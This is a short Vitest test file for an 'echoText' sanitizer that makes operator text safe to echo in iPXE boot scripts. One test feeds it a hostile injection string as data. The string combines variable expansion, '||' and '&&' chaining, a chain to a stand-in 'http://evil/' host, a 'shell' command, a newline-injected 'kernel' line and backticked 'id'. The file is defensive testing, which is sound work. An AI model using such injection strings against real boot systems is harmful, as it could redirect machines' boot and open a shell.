import { describe, expect, it } from "vitest";
import { echoText } from "./ipxe-safe";

describe("echoText", () => {
  it("keeps an operator's sentence readable", () => {
    expect(echoText("node-01 is in maintenance; switch maintenance off to boot it")).toBe("node-01 is in maintenance, switch maintenance off to boot it");
    expect(echoText("It is listed in the console's unknown-MAC inbox")).toBe("It is listed in the console's unknown-MAC inbox");
  });

  it("never lets a setting expand, a command chain or a new line start", () => {
    const out = echoText("x ${net0/mac} || reboot && chain http://evil/ ; shell\nkernel y `id` \"q\" #c");
    expect(out).not.toMatch(/\$\{|\|\||&&|[\n;`"#]/);
    expect(out.split(" ")).not.toContain(";");
  });

  it("cuts long text", () => {
    expect(echoText("a".repeat(300))).toHaveLength(200);
  });
});
